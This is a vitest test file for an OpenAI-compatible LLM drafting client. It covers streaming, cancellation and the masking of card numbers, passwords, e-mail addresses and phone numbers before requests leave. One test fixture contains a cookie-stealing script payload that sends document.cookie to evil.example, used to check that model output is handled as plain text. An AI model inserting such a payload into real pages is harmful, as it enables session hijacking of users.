import { afterAll, beforeEach, describe, expect, test } from 'vitest';
import type { Evidence } from '#lib/core/types.ts';
import { openaiCompatible, testConnection } from '#lib/llm/openai-compatible.ts';
import type { DraftPart } from '#lib/llm/provider.ts';
import { demo, long, saying } from './conversations.ts';
import { APIS, collect, drafting, HELLO, WHOLE } from './drafting.ts';

const { server, settings, key, draft } = await drafting();
afterAll(() => server.close());
beforeEach(() => server.reset());

describe.each(APIS)('%s', (api) => {
  test('streams word by word to a whole draft', async () => {
    const { parts, text, last } = await draft('ok', { api });
    expect(text).toBe(WHOLE);
    expect(parts.length).toBeGreaterThan(3);
    expect(last).toEqual({ kind: 'end', complete: true, knowledge: [], blanks: [] });
    expect(server.requests).toHaveLength(1);
  });

  test('a tiny request tests the connection and is stopped at the first sign of an answer', async () => {
    const tested = await testConnection(settings('stall', { api }), key(), new AbortController().signal);
    expect(tested).toEqual({ ok: true, ms: expect.any(Number), model: 'stall' });
    expect(await server.requests[0]?.closed).toBe('gone');
    expect(server.requests[0]?.raw.length).toBeLessThan(200);
  });
});

describe('stopping', () => {
  test('in the middle: no last part, and the socket is closed', async () => {
    const stop = new AbortController();
    const parts: DraftPart[] = [];
    for await (const part of openaiCompatible(settings('stall'), key()).stream(HELLO, stop.signal)) {
      parts.push(part);
      if (parts.length === 2) stop.abort();
    }
    expect(parts.map(({ kind }) => kind)).toEqual(['text', 'text']);
    expect(await server.requests[0]?.closed).toBe('gone');
  });

  test('before the first word', async () => {
    const stop = new AbortController();
    const stream = openaiCompatible(settings('slow'), key()).stream(HELLO, stop.signal);
    const next = stream[Symbol.asyncIterator]().next();
    await expect.poll(() => server.requests.length).toBe(1);
    stop.abort();
    expect(await next).toEqual({ done: true, value: undefined });
    expect(await server.requests[0]?.closed).toBe('gone');
  });

  test('before it began: no request', async () => {
    const { parts } = await collect(
      openaiCompatible(settings('ok'), key()).stream(HELLO, AbortSignal.abort()),
    );
    expect(parts).toEqual([]);
    expect(server.requests).toEqual([]);
  });

  test('by leaving the loop', async () => {
    const provider = openaiCompatible(settings('stall'), key());
    for await (const _ of provider.stream(HELLO, new AbortController().signal)) break;
    expect(await server.requests[0]?.closed).toBe('gone');
  });
});

describe('what leaves', () => {
  const article: Evidence = { id: 'a1', title: 'Cards', text: 'Test with 5555 5555 5555 4444.' };

  test.each(APIS)('%s: no digit of the card, and no text outside the block', async (api) => {
    const [card] = demo.filter(({ messages }) => messages.some(({ text }) => text.includes('4539')));
    const conversation = card ?? saying('');
    const knowledge = [article, { ...article, id: 'a2', internal: true, text: 'INTERNAL' }];
    const { last } = await draft('scripted-demo', { api }, { conversation, knowledge });
    expect(last).toMatchObject({ kind: 'end', complete: true, knowledge: ['a1'] });
    const raw = server.requests[0]?.raw ?? '';
    expect(raw).not.toMatch(/4539|1488|0343|6467|5555|4444|INTERNAL/);
    expect(raw).toContain('[CARD_1]');
    const body = JSON.parse(raw);
    const words: string = api === 'chat' ? body.messages[1].content : body.input;
    const outside =
      JSON.stringify({ ...body, input: '', messages: body.messages?.[0] }) + words.replace(/^\{.*\}$/m, '');
    expect(outside).toContain('data-');
    for (const { text } of conversation.messages) {
      for (const line of text.split('\n').filter(Boolean)) expect(outside).not.toContain(line);
    }
    expect(outside).not.toMatch(/Aisha|Priya|Payment declined/);
    if (api === 'responses') expect(body.store).toBe(false);
  });

  test('placeholders in the answer are restored, also when they come in pieces', async () => {
    const conversation = saying('Card 4539 1488 0343 6467, password: hunter2, and [CARD_1] is mine.');
    const { text } = await draft('echo-placeholders', {}, { conversation, knowledge: [] });
    expect(text).toBe('You wrote 4539 1488 0343 6467 and hunter2, and [CARD_1].');
    expect(server.requests[0]?.raw).not.toMatch(/4539|hunter2/);
  });

  test('e-mail addresses and telephone numbers leave only where a policy lets them', async () => {
    const conversation = saying('Write to dana@example.com or call +44 113 496 0123.');
    const request = { conversation, knowledge: [] };
    await draft('echo-placeholders', {}, request);
    expect(server.requests.at(-1)?.raw).toMatch(/dana@example\.com.*\+44 113 496 0123/);
    const { text } = await draft('echo-placeholders', {}, request, { backoffMs: 1, mask: 'personal' });
    expect(text).toBe('You wrote dana@example.com and +44 113 496 0123.');
    expect(server.requests.at(-1)?.raw).not.toMatch(/dana@|example\.com|0123/);
    expect(server.requests.at(-1)?.raw).toMatch(/\[EMAIL_1\].*\[PHONE_1\]/);
  });

  test('an answer that holds code comes through as text', async () => {
    const { text, last } = await draft('injected');
    expect(text).toContain('<script>fetch("https://evil.example/?c=" + document.cookie)</script>');
    expect(last).toMatchObject({ complete: true });
  });

  test('a conversation of 200 messages and a draft of every demo ticket', async () => {
    expect((await draft('ok', {}, { conversation: long, knowledge: [] })).text).toBe(WHOLE);
    for (const conversation of demo) {
      const { text, last } = await draft('scripted-demo', {}, { conversation, knowledge: [] });
      expect(text.length).toBeGreaterThan(50);
      expect(last).toMatchObject({ kind: 'end', complete: true });
    }
  });

  test('blanks are named', async () => {
    const { last } = await draft('scripted-demo');
    expect(last).toMatchObject({ blanks: ['what the order shows'] });
  });
});
